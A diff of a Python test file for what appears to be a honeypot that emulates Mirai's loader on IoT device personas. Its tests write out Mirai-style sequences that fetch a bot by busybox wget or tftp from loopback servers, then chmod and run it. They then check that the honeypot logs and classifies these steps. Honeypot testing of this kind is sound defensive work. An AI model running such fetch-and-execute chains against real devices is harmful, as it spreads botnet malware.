@@ -30,45 +30,65 @@ def _loader_session(d, info):
 
 
 def _check_loader(persona):
+    """The loader's whole sequence, then each upload method the persona
+    has (echo always; tftp and wget from loopback servers) and the bot run
+    after each: it answers with its start-up line as the loader waits for."""
     info = tt.persona_info(persona)
-    with Daemon(persona=persona) as d:
-        ld = _loader_session(d, info)
-        method = ld.step_method()
-        want = "wget" if "wget" in info["applets"] else (
-            "tftp" if "tftp" in info["applets"] else "echo")
-        assert method == want, (method, want)
+    dns = fetchsrv.Dns({})
+    http = fetchsrv.http_server({})
+    tftp = fetchsrv.Tftp({})
+    try:
+        with Daemon(persona=persona, extra=_fetch_conf(dns.port)) as d:
+            ld = _loader_session(d, info)
+            method = ld.step_method()
+            want = "wget" if "wget" in info["applets"] else (
+                "tftp" if "tftp" in info["applets"] else "echo")
+            assert method == want, (method, want)
+            bot = mirai.fake_bot(int(info["elf_machine"]), int(info["elf_data"]))
+            sha = hashlib.sha256(bot).hexdigest()
+            http.routes["/bins/mirai." + ld.arch] = ("file", bot)
+            tftp.files["mirai." + ld.arch] = bot
+            hp = http.server_address[1]
 
-        # echo: the downloader rebuilt byte for byte, then run
-        dlr = mirai.fake_dlr(path=("/bins/mirai." + ld.arch).encode())
-        ld.upload_echo(dlr)
-        out = ld.run("./upnp; ./dvrHelper telnet." + ld.arch)
-        assert b"not found" not in out.split(b"IHCCE")[0] or b"IHCCE" in out
-        sha = hashlib.sha256(dlr).hexdigest()
+            # echo: the bot rebuilt byte for byte, then run as the loader does
+            ld.upload_echo(bot, "dvrHelper")
+            out = ld.run("./dvrHelper telnet." + ld.arch)
+            assert out.startswith(b"listening tun0\r\n") or b"\nlistening tun0\r\n" in out, out
+            methods = ["echo"]
+            if "tftp" in info["applets"]:
+                mirai.token_cmd(ld.c, "/bin/busybox rm dvrHelper; /bin/busybox tftp -g -l "
+                                "dvrHelper -r mirai.%s 127.0.0.1 %d" % (ld.arch, tftp.port))
+                out = ld.run("/bin/busybox chmod 777 dvrHelper; ./dvrHelper telnet." + ld.arch)
+                assert b"listening tun0\r\n" in out, out
+                methods.append("tftp")
+            if "wget" in info["applets"]:
+                mirai.token_cmd(ld.c, "/bin/busybox rm dvrHelper; /bin/busybox wget "
+                                "http://127.0.0.1:%d/bins/mirai.%s -O - > dvrHelper"
+                                % (hp, ld.arch))
+                out = ld.run("/bin/busybox chmod 777 dvrHelper; ./dvrHelper telnet." + ld.arch)
+                assert b"listening tun0\r\n" in out, out
+                methods.append("wget")
+            ld.close()
 
-        # wget and tftp as the loader sends them, where the persona has them
-        urls = []
-        if "wget" in info["applets"]:
-            url = "http://127.0.0.1:9/bins/mirai." + ld.arch
-            mirai.token_cmd(ld.c, "/bin/busybox wget %s -O - > dvrHelper" % url)
-            urls.append(url)
-        if "tftp" in info["applets"]:
-            mirai.token_cmd(ld.c, "/bin/busybox tftp -g -l dvrHelper -r mirai.%s 127.0.0.1"
-                            % ld.arch)
-            urls.append("tftp://127.0.0.1/mirai." + ld.arch)
-        ld.close()
-
-        evs = d.wait_events(lambda e: any(x.get("shasum") == sha for x in e)
-                            and len(by_id(e, "tanuki.download.request")) >= len(urls))
-        assert sha in d.files(), "echo-built file not stored"
-        assert d.files()[sha] == dlr
-        caps = [e for e in by_id(evs, "cowrie.session.file_download") if e["shasum"] == sha]
-        assert caps[0]["reason"] == "exec", caps
-        assert caps[0]["destfile"].endswith("/upnp"), caps
-        got = [e["url"] for e in by_id(evs, "tanuki.download.request")]
-        for u in urls:
-            assert u in got, (u, got)
-        cmds = [e["input"] for e in by_id(evs, "cowrie.command.input")]
-        assert any(c.startswith("/bin/busybox cat /bin/echo") for c in cmds)
+            evs = d.wait_events(lambda e: len(by_id(e, "tanuki.exec.emulated"))
+                                >= len(methods) and by_id(e, "cowrie.session.closed"))
+            assert sha in d.files(), "the bot was not stored"
+            caps = [e for e in by_id(evs, "cowrie.session.file_download")
+                    if e["shasum"] == sha and e.get("reason") == "exec"]
+            assert caps and caps[0]["destfile"].endswith("/dvrHelper"), caps
+            emu = by_id(evs, "tanuki.exec.emulated")
+            assert len(emu) == len(methods), emu
+            for e in emu:
+                assert e["class"] == "xor_bot" and e["family"] == "mirai", e
+                assert e["text"] == "listening tun0\n", e
+                assert e["machine"] == int(info["elf_machine"]), e
+                assert e["path"].endswith("/dvrHelper"), e
+            cmds = [e["input"] for e in by_id(evs, "cowrie.command.input")]
+            assert any(c.startswith("/bin/busybox cat /bin/echo") for c in cmds)
+    finally:
+        http.shutdown()
+        tftp.close()
+        dns.close()
 
 
 def test_loader_xiongmai():
@@ -227,3 +247,67 @@ def test_loader_fetches_land_in_the_shell():
         http.shutdown()
         tftp.close()
         dns.close()
+
+
+def test_dlr_runs_and_fetches_its_bot():
+    """The echo method as Mirai's loader does it on the ARM persona: the
+    downloader (127.0.0.1 and the test server's port in its code) rebuilt
+    as upnp and run: MIRAI, a real fetch of its second stage (one request
+    although the capture started it too), FIN, then dvrHelper — the bot it
+    wrote — answers `listening tun0`. A downloader whose server is closed
+    says NIF."""
+    persona = "xiongmai-dvr"
+    info = tt.persona_info(persona)
+    dns = fetchsrv.Dns({})
+    http = fetchsrv.http_server({})
+    hp = http.server_address[1]
+    bot = mirai.fake_bot(40, 1)
+    http.routes["/bins/mirai.arm"] = ("file", bot)
+    dlr = mirai.fake_dlr(path=b"/bins/mirai.arm", port=hp)
+    dead = mirai.fake_dlr(path=b"/bins/mirai.arm", port=9, seed=11)
+    try:
+        with Daemon(persona=persona, extra=_fetch_conf(dns.port)) as d:
+            ld = _loader_session(d, info)
+            ld.upload_echo(dlr)
+            out = ld.run("/bin/busybox chmod 777 upnp; ./upnp; ./dvrHelper telnet.arm")
+            assert out.endswith(b"\nMIRAI\r\nFIN\r\nlistening tun0\r\nIHCCE: applet not found"), out
+            assert http.hits == ["/bins/mirai.arm"], http.hits
+            ld.upload_echo(dead, "upnp2")
+            out = ld.run("/bin/busybox chmod 777 upnp2; ./upnp2")
+            assert out.endswith(b"\nMIRAI\r\nNIF\r\nIHCCE: applet not found"), out
+            ld.close()
+            sha = hashlib.sha256(bot).hexdigest()
+            evs = d.wait_events(lambda e: len(by_id(e, "tanuki.exec.emulated")) >= 3)
+            assert d.files().get(sha) == bot
+            emu = by_id(evs, "tanuki.exec.emulated")
+            assert [(e["class"], e["text"]) for e in emu] == [
+                ("downloader", "MIRAI\n"), ("xor_bot", "listening tun0\n"),
+                ("downloader", "MIRAI\n")], emu
+            assert emu[0]["family"] == "mirai_dlr" and emu[0]["machine"] == 40, emu
+            got = [e for e in by_id(evs, "cowrie.session.file_download") if e["shasum"] == sha]
+            assert len(got) == 1 and got[0]["parent_shasum"] == hashlib.sha256(dlr).hexdigest()
+    finally:
+        http.shutdown()
+        dns.close()
+
+
+def test_other_cpu_read_as_a_script():
+    """A MIPS persona runs an ARM binary: the kernel says ENOEXEC and ash
+    reads the file as a script (NULs deleted), as BusyBox does; the line
+    goes on. Logged as wrong_arch with the binary's machine."""
+    persona = "huawei-hg532"
+    info = tt.persona_info(persona)
+    bot = mirai.fake_bot(40, 1)
+    with Daemon(persona=persona) as d:
+        ld = _loader_session(d, info)
+        ld.upload_echo(bot, "x")
+        out = ld.run("/bin/busybox chmod 777 x; ./x; echo rc=$?")
+        ld.close()
+        assert b"listening tun0" not in out, out
+        # real ash 1.35 (build/oracle, this file): './x: line 1: syntax error:
+        # unexpected word (expecting ")")' and status 2; the script error's
+        # prefix is the parser's (sh/exec.c), not this path's
+        assert b"syntax error: unexpected" in out and b"\nrc=2\r\n" in out, out
+        evs = d.wait_events(lambda e: by_id(e, "tanuki.exec.emulated"))
+        e = by_id(evs, "tanuki.exec.emulated")[0]
+        assert e["class"] == "wrong_arch" and e["machine"] == 40 and e["text"] == "", e
